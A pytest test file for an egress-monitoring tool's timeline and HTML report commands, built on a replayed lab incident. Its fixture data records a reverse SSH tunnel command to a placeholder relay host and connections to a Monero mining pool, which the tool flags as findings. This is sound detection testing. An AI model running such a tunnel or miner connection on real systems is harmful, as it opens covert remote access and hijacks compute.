"""``egress timeline`` and ``egress report`` on a store filled by replaying the lab incident,
on SQLite and PostgreSQL."""

import json

import pytest
from click.testing import CliRunner

from cli.main import main
from db import Store
from egress.records import NameBinding, ProcessInfo, Step, TaskEvent, Verdict, parse_time
from tests.factories import make_finding, make_ssh_flow
from tests.incident import TASK, replay_lab_incident


def run(*args):
    result = CliRunner().invoke(main, [str(a) for a in args])
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


@pytest.fixture
def incident(store_url):
    return replay_lab_incident(store_url)


def lines(result):
    return [json.loads(line) for line in result.output.splitlines()]


def test_timeline_tells_the_incident_in_order(incident):
    result = run("timeline", "--task", TASK, "--db", incident, "--json")
    assert result.exit_code == 0, result.output
    entries = lines(result)
    times = [parse_time(e["time"]) for e in entries]
    assert times == sorted(times)
    assert {e["task"] for e in entries} == {TASK}
    kinds = [e["entry"] for e in entries]
    assert kinds.count("dns") == 4 and kinds.count("flow-open") == 4
    assert kinds.count("flow-close") == 4 and kinds[-1] == "task-ended"
    assert "task-started" in kinds
    looked_up = [q["name"] for e in entries if e["entry"] == "dns" for q in e["detail"]["lookups"]]
    assert looked_up == ["pypi.org", "pypi.org", "files.pythonhosted.org",
                         "files.pythonhosted.org", "relay.example", "relay.example",
                         "pool.supportxmr.com", "pool.supportxmr.com"]
    # The relay is looked up before the tunnel opens; the tunnel's findings follow its opening.
    opened = {e["detail"]["server_name"]: i for i, e in enumerate(entries)
              if e["entry"] == "flow-open"}
    relay_lookup = next(i for i, e in enumerate(entries) if e["entry"] == "dns"
                        and e["detail"]["lookups"][0]["name"] == "relay.example")
    assert relay_lookup < opened["relay.example"]
    findings = {e["detail"]["id"]: e for e in entries if e["entry"] == "finding"}
    assert set(findings) == {"undeclared-destination", "ssh-egress", "reverse-ssh-tunnel",
                             "mining-pool", "mining-stratum"}
    tunnel = findings["reverse-ssh-tunnel"]
    assert entries.index(tunnel) > opened["relay.example"]
    assert tunnel["detail"]["severity"] == "critical"
    assert tunnel["detail"]["evidence"]["source"] == "traffic"
    assert findings["mining-stratum"]["detail"]["evidence"]["method"] == "login"


def test_timeline_table(incident):
    result = run("timeline", "--task", TASK, "--db", incident)
    assert result.exit_code == 0, result.output
    out = result.output
    assert "relay.example A -> 198.51.100.7" in out
    assert "critical reverse-ssh-tunnel: source=traffic" in out
    assert "tcp 10.99.0.2:" in out and "198.51.100.42:3333 pool.supportxmr.com stratum: flag" in out
    assert out.rstrip().endswith("20 entries: 8 flow(s), 2 task event(s)")


def test_timeline_filters(incident):
    stratum = lines(run("timeline", "--task", TASK, "--db", incident, "--json",
                        "--finding", "mining-stratum"))
    assert {e["flow_id"] for e in stratum} == {stratum[0]["flow_id"]}
    assert [e["entry"] for e in stratum] == ["flow-open", "finding", "finding", "finding",
                                             "flow-close"]
    everything = lines(run("timeline", "--task", TASK, "--db", incident, "--json"))
    mining = next(e for e in everything if e["entry"] == "flow-open"
                  and e["detail"]["server_name"] == "pool.supportxmr.com")
    since = lines(run("timeline", "--task", TASK, "--db", incident, "--json",
                      "--since", mining["time"]))
    # Flows that overlap the window: the tunnel, still open, and the miner; the lookups
    # and the package downloads ended before it.
    assert {e["detail"]["server_name"] for e in since if e["entry"] == "flow-open"} == {
        "relay.example", "pool.supportxmr.com"}
    assert [e["entry"] for e in since if e["entry"] in ("dns", "task-started", "task-ended")] \
        == ["task-ended"]
    flagged = lines(run("timeline", "--task", TASK, "--db", incident, "--json",
                        "--verdict", "flag"))
    assert {e["detail"]["server_name"] for e in flagged if e["entry"] == "flow-open"} == {
        "relay.example", "pool.supportxmr.com"}
    assert not [e for e in flagged if e["entry"] in ("dns", "task-started", "task-ended")]


def test_timeline_shows_the_process_and_our_resolvers_answers(store_url):
    t0 = parse_time("2026-03-11T02:14:07Z")
    with Store.open(store_url) as store:
        store.write([make_ssh_flow(
            start=t0 + 1000, end=t0 + 2_000_000, verdict=Verdict.FLAG, decided_at=Step.START,
            findings=[make_finding("direct-ip")],
            process=ProcessInfo(pid=4242, exe="/usr/bin/ssh",
                                cmdline="ssh -N -R 9000:localhost:22 agent@relay.example"))])
        store.add_bindings([NameBinding(task="t1", name="relay.example", address="203.0.113.10",
                                        ttl=60, time=t0, resolver="10.213.0.1",
                                        resolver_port=53)])
        store.write([TaskEvent(task="t1", time=t0 + 3_000_000, event="dns-refused",
                               findings=[make_finding("dns-refused", name="pool.example",
                                                      qtype="A")])])
    result = run("timeline", "--task", "t1", "--db", store_url)
    assert result.exit_code == 0, result.output
    rows = result.output.splitlines()
    assert "relay.example -> 203.0.113.10  (via 10.213.0.1:53)" in rows[1]
    assert rows[2].split()[2] == "flow-open"
    assert "pid 4242 ssh -N -R 9000:localhost:22 agent@relay.example" in rows[2]
    assert "dns-refused: high dns-refused: name=pool.example, qtype=A" in rows[-2]
    data = lines(run("timeline", "--task", "t1", "--db", store_url, "--json"))
    assert data[0]["detail"]["source"] == "resolver" and data[0]["flow_id"] is None
    assert data[1]["process"]["pid"] == 4242
    assert data[-1]["entry"] == "task-event" and data[-1]["detail"]["event"] == "dns-refused"
    # Our resolver's answers have no verdict, and fall outside a later window.
    flagged = lines(run("timeline", "--task", "t1", "--db", store_url, "--json",
                        "--verdict", "flag"))
    assert [e["entry"] for e in flagged] == ["flow-open", "finding", "flow-close"]
    later = lines(run("timeline", "--task", "t1", "--db", store_url, "--json",
                      "--since", "2026-03-11T02:14:07.000500Z"))
    assert "dns" not in [e["entry"] for e in later] and len(later) == 4


def test_timeline_bad_input(incident):
    missing = run("timeline", "--db", incident)
    assert missing.exit_code == 2 and "--task is required" in missing.output
    unknown = run("timeline", "--task", "nope", "--db", incident)
    assert unknown.exit_code == 1
    assert unknown.output == "egress: no task 'nope' in the store\n"


def test_report_writes_one_file(incident, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / "report.html"
    result = run("report", "--task", TASK, "-o", out, "--db", incident)
    assert result.exit_code == 0, result.output
    assert result.output == f"wrote {out}: task {TASK}, 8 flow(s), 6 finding(s)\n"
    page = out.read_text()
    assert page.startswith("<!DOCTYPE html>") and "reverse-ssh-tunnel" in page
    assert list(folder.iterdir()) == [out]


def test_report_bad_input(incident, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    unknown = run("report", "--task", "nope", "-o", folder / "r.html", "--db", incident)
    assert unknown.exit_code == 1 and unknown.output == "egress: no task 'nope' in the store\n"
    nowhere = folder / "missing" / "r.html"
    bad = run("report", "--task", TASK, "-o", nowhere, "--db", incident)
    assert bad.exit_code == 1
    assert bad.output == f"egress: cannot write {nowhere}: No such file or directory\n"
    assert not list(folder.iterdir())
